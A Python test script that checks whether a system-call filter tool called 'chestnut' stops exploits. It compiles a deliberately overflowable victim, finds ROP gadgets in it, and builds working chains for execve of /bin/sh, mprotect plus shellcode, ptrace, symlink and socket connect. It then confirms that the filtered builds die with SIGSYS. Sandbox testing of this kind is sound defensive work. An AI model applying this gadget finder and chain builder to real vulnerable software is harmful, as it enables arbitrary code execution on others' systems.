#!/usr/bin/env python3
"""A vulnerable program, its exploits, and what is left of them under a filter.

Usage: rop_scene.py CHESTNUT CHESTNUT_CC

victims/overflow.c reads a line that overwrites its stack. The exploits are chains of gadgets that
the finder below found in the program's own code, between its instructions too. Without a filter
each reaches its aim; patched, wrapped and built by chestnut cc the program dies of SIGSYS at the
call, and nothing was done.
"""

import os
import pathlib
import re
import select
import signal
import socket
import struct
import subprocess
import sys
import tempfile

ROOT = pathlib.Path(__file__).resolve().parents[2]
VICTIM = ROOT / "test/patcher/victims/overflow.c"
FLAGS = ["-O1", "-w", "-static", "-no-pie", "-fno-stack-protector", str(VICTIM)]
LINE = 4096
SCRATCH = 1024
SURVIVED = 42
# So large that the line fits on the stack below its end.
ENVIRONMENT = {"ROOM": "x" * 2 * LINE}
CALLS = {"read": 0, "mprotect": 10, "socket": 41, "connect": 42, "execve": 59, "symlink": 88, "ptrace": 101,
         "exit_group": 231}
X32 = 0x40000000
X86_CREAT = 8
# A pop of the register, other pops (none of rsp), ret.
MORE_POPS = rb"(?:[\x58-\x5b\x5d-\x5f]|\x41[\x58-\x5f])*\xc3"
POPS = {"rax": rb"\x58", "rbx": rb"\x5b", "rdx": rb"\x5a", "rsi": rb"\x5e", "rdi": rb"\x5f"}
ENDS = {"ret": rb"\xc3", "syscall": rb"\x0f\x05\xc3", "int80": rb"\xcd\x80\xc3"}


def executable_bytes(program):
    """Yields (address, bytes) of what is mapped executable, by the program headers."""
    image = program.read_bytes()
    offset, size, count = struct.unpack_from("<Q14xHH", image, 32)
    for i in range(count):
        kind, flags, start, address, _, length = struct.unpack_from("<IIQQQQ", image, offset + i * size)
        if kind == 1 and flags & 1:
            yield address, image[start:start + length]


class Gadgets:
    """The addresses of the shortest gadgets, wherever instructions begin, in a program that lies at `base`."""

    def __init__(self, program, base=0):
        self.found = {}
        for address, code in executable_bytes(program):
            for name, first in list(POPS.items()) + list(ENDS.items()):
                pattern = first + MORE_POPS if name in POPS else first
                for match in re.finditer(b"(?=(" + pattern + b"))", code, re.DOTALL):
                    gadget = (len(match.group(1)), base + address + match.start(), match.group(1))
                    self.found[name] = min(self.found.get(name, gadget), gadget)

    def address(self, name):
        """Of the gadget that does just this."""
        return self.found[name][1]

    def load(self, register, value):
        """The words that put a value into a register."""
        _, address, code = self.found[register]
        pops = len(re.findall(rb"\x41?[\x58-\x5f]", code))
        return [address, value] + [0] * (pops - 1)

    def call(self, number, first=0, second=0, third=0, by="syscall"):
        """The words that make a system call."""
        # The second register last, as pop rdx comes with a pop of rbx.
        words = self.load("rdi", first) + self.load("rdx", third) + self.load("rsi", second)
        return words + self.load("rax", number) + [self.address(by)]


def scratch_of(program):
    """An address in .bss that nothing needs any more."""
    text = subprocess.run(["readelf", "-SW", program], capture_output=True, text=True, check=True).stdout
    address, size = re.search(r" \.bss +NOBITS +([0-9a-f]+) [0-9a-f]+ ([0-9a-f]+)", text).groups()
    return (int(address, 16) + int(size, 16) - 2 * SCRATCH) & ~15


class Exploit:
    """A line for the victim, and what it reads afterwards to `scratch`."""

    def __init__(self, program, marker, port):
        self.gadgets = Gadgets(program)
        self.scratch = scratch_of(program)
        data = bytearray(SCRATCH)

        def put(at, content):
            data[at:at + len(content)] = content
            return self.scratch + at

        self.shell = put(0, b"/bin/sh\0")
        words = [self.shell, put(16, b"-c\0"), put(32, b"echo here > " + bytes(marker) + b"\0"), 0]
        self.arguments = put(300, struct.pack("<4Q", *words))
        self.marker = put(400, bytes(marker) + b"\0")
        self.peer = put(600, struct.pack("<H", socket.AF_INET) + struct.pack(">H", port) +
                        socket.inet_aton("127.0.0.1") + bytes(8))
        # mov edi, esi, eax; xor edx, edx; syscall
        self.code = put(700, b"\xbf" + struct.pack("<I", self.shell) + b"\xbe" +
                        struct.pack("<I", self.arguments) + b"\xb8" + struct.pack("<I", CALLS["execve"]) +
                        b"\x31\xd2\x0f\x05")
        self.data = bytes(data)

    def aims(self):
        """Name -> the words of the chain."""
        call = self.gadgets.call
        page = self.scratch & ~4095
        return {
            "execve": call(CALLS["execve"], self.shell, self.arguments),
            "mprotect and shellcode": call(CALLS["mprotect"], page, 8192, 7) + [self.code],
            # Not by open: reading files goes through it, in libc too.
            "symlink": call(CALLS["symlink"], self.shell, self.marker),
            "ptrace": call(CALLS["ptrace"]),
            "connect": call(CALLS["socket"], socket.AF_INET, socket.SOCK_STREAM) +
                       call(CALLS["connect"], 3, self.peer, 16),
            "int 0x80": self.gadgets.load("rbx", self.marker) + self.gadgets.load("rax", X86_CREAT) +
                        [self.gadgets.address("int80")],
            "x32": call(X32 | CALLS["symlink"], self.shell, self.marker),
        }

    def input(self, aim):
        """What the victim has to read: returns through the stack until the chain begins."""
        chain = [self.gadgets.address("ret")] * 64
        chain += self.gadgets.call(CALLS["read"], 0, self.scratch, SCRATCH)
        chain += aim + self.gadgets.call(CALLS["exit_group"], SURVIVED)
        line = struct.pack(f"<{len(chain)}Q", *chain)
        return line.ljust(LINE, b"\0") + self.data


class Scene:
    """One program, attacked in every way."""

    def __init__(self, folder, program):
        self.marker = folder / "marker"
        self.input = folder / "input"
        self.program = program
        self.listener = socket.create_server(("127.0.0.1", 0))

    def attack(self, exploit, aim):
        """Returns (status, whether something was done)."""
        self.marker.unlink(missing_ok=True)
        # From a file each read gets as much as it asks for.
        self.input.write_bytes(exploit.input(aim))
        with self.input.open("rb") as file:
            done = subprocess.run([self.program], stdin=file, capture_output=True, check=False, timeout=60,
                                  env=ENVIRONMENT)
        reached = os.path.lexists(self.marker)
        if done.returncode == SURVIVED and aim == exploit.aims()["connect"]:
            reached = bool(select.select([self.listener], [], [], 10)[0])
        return done.returncode, reached

    def run(self, executed):
        """Returns name -> (status, whether something was done); gadgets are those of `executed`."""
        exploit = Exploit(executed, self.marker, self.listener.getsockname()[1])
        return {name: self.attack(exploit, aim) for name, aim in exploit.aims().items()}


def greets(program):
    """Whether the program does what it is for."""
    done = subprocess.run([program], input=b"a name", capture_output=True, check=False)
    return done.returncode == 0 and done.stdout == b"hello\n"


def unconfined_problems(results):
    """The exploits have to be exploits."""
    problems = []
    for name, (status, reached) in results.items():
        if name == "ptrace":
            reached = status == SURVIVED
        # Kernels may be built without either.
        if not reached and name not in ("int 0x80", "x32"):
            problems.append(f"without a filter {name} fails: status {status}")
    return problems


def main():
    chestnut, chestnut_cc = (os.path.abspath(path) for path in sys.argv[1:3])
    problems = []
    with tempfile.TemporaryDirectory() as name:
        folder = pathlib.Path(name)
        os.environ["XDG_CACHE_HOME"] = name
        plain, patched, wrapped, built = (folder / way for way in ("plain", "patched", "wrapped", "built"))
        subprocess.run(["gcc", *FLAGS, "-o", plain], check=True)
        subprocess.run([chestnut, "patch", plain, "-o", patched], check=True)
        subprocess.run([chestnut, "wrap", plain, "-o", wrapped], check=True)
        subprocess.run([chestnut_cc, *FLAGS, "-o", built], check=True)
        results = Scene(folder, plain).run(plain)
        problems += unconfined_problems(results)
        print("without a filter:", {aim: reached for aim, (_, reached) in results.items()})
        for program, executed in ((patched, patched), (wrapped, plain), (built, built)):
            if not greets(program):
                problems.append(f"{program.name}: does not greet")
            results = Scene(folder, program).run(executed)
            print(f"{program.name}:", {aim: status for aim, (status, _) in results.items()})
            problems += [f"{program.name}: {aim}: status {status}, done: {reached}"
                         for aim, (status, reached) in results.items()
                         if status != -signal.SIGSYS or reached]
    for problem in problems:
        print("FAILED", problem)
    sys.exit(bool(problems))


if __name__ == "__main__":
    main()
